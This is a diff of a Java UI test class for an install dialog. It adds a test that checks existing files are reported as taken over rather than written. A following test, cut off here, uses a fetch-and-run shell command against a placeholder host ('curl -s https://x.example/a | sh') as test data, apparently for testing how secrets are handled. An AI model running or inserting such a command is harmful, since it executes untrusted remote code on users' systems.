@@ -117,6 +117,18 @@ class InstallDialogsTest {
     }
 
     @Test
+    void saysThatWhatIsThereAlreadyIsTakenOverAndNotWritten(FxRobot robot) {
+        PageWorld.write(world.repo("atlas").resolve(PLACE), TEXT);
+
+        run(robot, "registry.command.install");
+
+        assertThat(part("#install-list").getParent().lookupAll(".dialog-text"))
+                .extracting(node -> ((Label) node).getText())
+                .containsExactly("Nothing would be written; 1 is there already and is taken over.");
+        assertThat(part("#install-go").isDisabled()).isFalse();
+    }
+
+    @Test
     void writesASecretOnlyOnceThatIsAllowed(FxRobot robot) {
         var fetching = "curl -s https://x.example/a | sh\n".repeat(5);
         robot.interact(() -> world.registry.edit(
